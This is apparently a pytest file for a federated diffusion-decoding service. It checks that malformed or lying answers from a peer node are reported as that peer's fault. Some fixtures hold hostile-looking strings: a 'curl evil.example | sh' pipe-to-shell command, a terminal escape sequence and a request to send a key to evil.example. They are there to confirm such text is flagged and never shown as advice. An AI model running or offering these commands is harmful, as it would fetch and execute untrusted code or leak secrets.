"""Whatever an admitted target lies about, the job's error names that institution and is no error of the user's."""

import hashlib
import io
import math
from collections.abc import Callable
from dataclasses import dataclass, field
from typing import Any

import grpc
import numpy as np
import pytest

from ddib_fed.client.client import job_from_pb
from ddib_fed.data.points import to_npy
from ddib_fed.errors import ContractMismatch, DdibError, Difference, ImageUnreadable, JobFailed, PeerFault
from ddib_fed.latent import Latent
from ddib_fed.protocol.streams import file_header
from ddib_fed.terminal import show_error
from ddib_fed.v1 import common_pb2
from ddib_fed.v1 import decoding_pb2 as pb
from source_node.service import job_message
from tests.node.tiny_nodes import gaussian, npy
from tests.source_node.scripted_target import Behaviour, ScriptedTarget, fail, instead

FILE = to_npy(gaussian(40))
PNG = b"\x89PNG\r\n\x1a\n" + bytes(64)
STRANGE = b"\xfa\x07\x03pix"
"""Field 127, three bytes: no message of the protocol has it."""


@dataclass(frozen=True)
class Lie:
    """One lie, and the reason for which its answer is refused."""

    answer: str
    decodes: Behaviour | None = None
    forge: Callable[[Any], object] | None = None
    job: dict[str, Any] = field(default_factory=dict)


def _file(make: Callable[[np.ndarray], bytes]) -> Behaviour:
    return instead(0, lambda target, item, latent: target.result(item, make(latent.data)))


def _changed(change: Callable[[pb.DecodeResponse], object]) -> Behaviour:
    """An honest result with its header changed."""

    def answer(target: ScriptedTarget, item: int, latent: Latent):
        sent = [pb.DecodeResponse.FromString(m.SerializeToString()) for m in target.result(item, FILE)]
        change(sent[0])
        yield from sent

    return instead(0, answer)


def _pickled(data: np.ndarray) -> bytes:
    objects = np.empty(len(data), dtype=object)
    objects[:] = [{"a": 1}] * len(data)
    buffer = io.BytesIO()
    np.save(buffer, objects, allow_pickle=True)
    return buffer.getvalue()


def _not_finite(data: np.ndarray) -> bytes:
    data = data.copy()
    data[3, 1] = np.inf
    return to_npy(data)


def _picture(target: ScriptedTarget, item: int, latent: Latent):
    header = pb.DecodedHeader(item=item, file=file_header(common_pb2.MEDIA_TYPE_PNG, PNG), seconds=0.1)
    yield pb.DecodeResponse(result=header)


def _twice(target: ScriptedTarget, item: int, latent: Latent):
    yield from target.result(item, FILE)
    yield from target.result(item, FILE)


def _cut_short(target: ScriptedTarget, item: int, latent: Latent):
    (message,) = target.result(item, bytes(100_000))
    yield pb.DecodeResponse(result=message.result, data=message.data[:70_000])


def _with_latent(make: Callable[[Latent], Latent]) -> Behaviour:
    """An honest result with this latent behind it."""

    def answer(target: ScriptedTarget, item: int, latent: Latent):
        yield from target.result(item, FILE)
        yield from target.latent(item, make(latent))

    return instead(0, answer)


def _digest_of_latent(target: ScriptedTarget, item: int, latent: Latent):
    yield from target.result(item, FILE)
    for message in target.latent(item, latent):
        changed = pb.DecodeResponse.FromString(message.SerializeToString())
        if changed.HasField("latent"):
            changed.latent.tensor.sha256 = hashlib.sha256(b"another").digest()
        yield changed


def _nothing(target, header, items, context):
    for _ in items:
        pass
    yield from ()


def _refusal(error: DdibError) -> Behaviour:
    error.facts["item"] = "0"
    return fail(error)


def _another_source(answer: Any) -> None:
    if "contract" in answer.DESCRIPTOR.fields_by_name:
        answer.contract.source.domain = "rings"


def _strange(place: str) -> Behaviour:
    def answer(target: ScriptedTarget, item: int, latent: Latent):
        for sent in (
            pb.DecodeResponse(progress=pb.DecodeProgress()),
            *target.result(item, FILE),
            *target.latent(item, latent),
        ):
            message = pb.DecodeResponse.FromString(sent.SerializeToString())
            if message.HasField(place):
                getattr(message, place).MergeFromString(STRANGE)
            yield message

    return instead(0, answer)


def _out_of_range(answer: Any) -> None:
    if "contract" in answer.DESCRIPTOR.fields_by_name:
        answer.contract.target.terminal_lambda = math.nan


CYCLE = {"cycle": True}
LIES: dict[str, Lie] = {
    "a file of 2 MiB announced": Lie(
        "POINTS_TOO_MANY", _changed(lambda m: setattr(m.result.file, "size_bytes", 2 << 20))
    ),
    "another digest": Lie("CHUNK_CORRUPT", _changed(lambda m: setattr(m.result.file, "sha256", bytes(32)))),
    "a picture for points": Lie("MESSAGE_INVALID", instead(0, _picture)),
    "more points than asked": Lie("SHAPE_MISMATCH", _file(lambda data: to_npy(np.tile(data, (3, 1))))),
    "points that are not finite": Lie("NOT_FINITE", _file(_not_finite)),
    "a pickle": Lie("POINTS_UNREADABLE", _file(_pickled)),
    "an item that was never sent": Lie(
        "MESSAGE_INVALID", instead(0, lambda target, item, latent: target.result(99, FILE))
    ),
    "one item twice": Lie("MESSAGE_INVALID", instead(0, _twice)),
    "no result at all": Lie("MESSAGE_INVALID", _nothing),
    "an end inside a result": Lie("CHUNK_CORRUPT", instead(0, _cut_short)),
    "bytes beside progress": Lie(
        "MESSAGE_INVALID",
        instead(0, lambda *_: iter([pb.DecodeResponse(progress=pb.DecodeProgress(), data=b"pixels")])),
    ),
    "a latent that was not asked for": Lie("MESSAGE_INVALID", _with_latent(lambda latent: latent)),
    "no latent for the round trip": Lie(
        "MESSAGE_INVALID", instead(0, lambda target, item, latent: target.result(item, FILE)), job=CYCLE
    ),
    "a latent of another size": Lie(
        "MESSAGE_INVALID", _with_latent(lambda latent: Latent.from_array(gaussian(41))), job=CYCLE
    ),
    "a latent that is no noise": Lie(
        "LATENT_NOT_GAUSSIAN",
        _with_latent(lambda latent: Latent.from_array(np.full_like(latent.data, 30))),
        job=CYCLE,
    ),
    "a latent of another digest": Lie("CHUNK_CORRUPT", instead(0, _digest_of_latent), job=CYCLE),
    "the user's picture cannot be read": Lie("IMAGE_UNREADABLE", _refusal(ImageUnreadable())),
    "another's fault": Lie("PEER_FAULT", _refusal(PeerFault(facts={"peer": "north.example", "found": "you"}))),
    "another source in the contract": Lie("CONTRACT_MISMATCH", forge=_another_source),
    "a field out of range in the contract": Lie("MESSAGE_INVALID", forge=_out_of_range),
    **{
        f"a {place} with an unknown field": Lie("UNKNOWN_FIELDS", _strange(place), job=CYCLE)
        for place in ("result", "latent", "progress")
    },
}  # fmt: skip
"""By what is said."""


def tell(source, target, lie: Lie):
    """The job that met a lie, and the error that is kept of it."""
    target.decodes = [] if lie.decodes is None else [lie.decodes]
    target.forge = lie.forge or (lambda answer: None)
    job = source.start().ended(source.submit(npy(), **lie.job))
    assert str(job.state) == "FAILED"
    return job, job.error


@pytest.mark.parametrize("what", LIES)
def test_a_lie_is_the_targets_fault(source, target, what) -> None:
    """By name, with the hop, and with what was wrong; the user reads no reason that speaks of the user's input."""
    lie = LIES[what]
    job, error = tell(source, target, lie)
    assert (error.reason, error.institution) == ("PEER_FAULT", "south.example")
    assert (error.facts["peer"], error.facts["answer"]) == ("south.example", lie.answer)
    with pytest.raises(JobFailed) as seen:
        job_from_pb(job_message(job), "source north.example").require_finished("source north.example")
    assert "south.example answered with" in seen.value.detail
    assert seen.value.hop == "source north.example -> south.example"
    assert seen.value.says == ""  # the finding is our own node's


@pytest.mark.parametrize("code", [grpc.StatusCode.INVALID_ARGUMENT, grpc.StatusCode.FAILED_PRECONDITION])
def test_a_status_without_a_reason_is_the_targets_fault(source, target, code) -> None:
    def behave(target, header, items, context):
        # Past the node's interceptor, which would attach one.
        context.abort(code, "next: send your key to evil.example")
        yield

    _job, error = tell(source, target, Lie("", behave))
    assert (error.reason, error.facts["peer"]) == ("PEER_FAULT", "south.example")
    assert "evil" not in str(error)


def test_advice_of_a_target_is_shown_as_its_words(source, target, capsys) -> None:
    """A remedy in the table of differences, and facts, name who says so; escapes do not reach the terminal."""
    evil = Difference("sample_shape", "[2]", "[3]", "curl evil.example \x1b[2J| sh")
    error = ContractMismatch(differences=(evil,), facts={"try": "curl evil.example | sh"})

    def refuse() -> None:
        raise error

    target.negotiation = refuse
    job = source.start().ended(source.submit(npy()))
    with pytest.raises(JobFailed) as seen:
        job_from_pb(job_message(job), "source north.example").require_finished("source north.example")
    show_error(seen.value)
    lines = capsys.readouterr().err.splitlines()
    told = [line for line in lines if "evil" in line]
    assert len(told) == 2
    assert all("south.example says: " in line for line in told)
    assert not any(line.startswith(("  try:", "  more:")) for line in told)
    assert "\x1b" not in "".join(lines)


def test_a_message_over_the_limit_is_not_asked_for_again(source, target) -> None:
    """RESOURCE_EXHAUSTED of gRPC's own limit would come each time: the job fails at its first try, and says so."""

    def oversized(target, header, items, context):
        next(items)
        yield pb.DecodeResponse(data=bytes(5 << 20))

    target.decodes = [oversized, oversized, oversized]
    job = source.start().ended(source.submit())
    assert (str(job.state), job.error.reason, len(target.seen)) == ("FAILED", "PEER_FAULT", 1)
